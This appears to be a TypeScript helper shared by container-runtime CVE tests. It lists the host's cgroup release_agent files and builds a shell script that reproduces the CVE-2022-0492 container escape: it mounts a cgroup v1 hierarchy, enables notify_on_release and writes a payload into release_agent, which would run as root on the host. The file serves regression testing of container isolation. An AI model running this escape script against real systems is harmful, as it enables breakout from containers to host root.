// What the runtime and engine CVE tests share: CVE-2022-0492's escape as a script, and the host's
// release_agent files it must never change.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

/** Every release_agent of the host's v1 hierarchies with its content (none on a pure v2 host). */
export function hostReleaseAgents(): Record<string, string> {
  const out: Record<string, string> = {};
  for (const line of readFileSync('/proc/self/mountinfo', 'utf8').split('\n')) {
    if (!line.includes(' - cgroup ')) continue;
    const agent = join(line.split(' ')[4], 'release_agent');
    if (existsSync(agent)) out[agent] = readFileSync(agent, 'utf8');
  }
  return out;
}

/**
 * CVE-2022-0492's escape, step by step, as a script taking who runs it: mount a v1 hierarchy on
 * /mnt, make a cgroup, ask for notify_on_release, point release_agent at `payload` (which would
 * run as root on the host), join the cgroup; and the release_agent files already mounted. Prints a
 * line for each step that worked. Run as is, then as root of new user, mount and cgroup namespaces
 * (`probe userns-root`, as `unshare -UrmC`), which is how the published exploit got CAP_SYS_ADMIN.
 */
export function releaseAgentEscapeScript(payload: string): string {
  return `who=$1
mounted=
for c in rdma memory pids cpu; do
  mount -t cgroup -o $c cgroup /mnt 2>/dev/null && { echo "$who MOUNTED $c"; mounted=1; break; }
done
if [ -n "$mounted" ]; then
  mkdir /mnt/x 2>/dev/null && echo "$who MADE a cgroup"
  echo 1 > /mnt/x/notify_on_release 2>/dev/null && echo "$who WROTE notify_on_release"
  echo ${payload} > /mnt/release_agent 2>/dev/null && echo "$who WROTE /mnt/release_agent"
  echo $$ > /mnt/x/cgroup.procs 2>/dev/null && echo "$who JOINED"
fi
for f in /sys/fs/cgroup/release_agent /sys/fs/cgroup/*/release_agent; do
  [ -e $f ] && echo ${payload} > $f 2>/dev/null && echo "$who WROTE $f"
done
true
`;
}
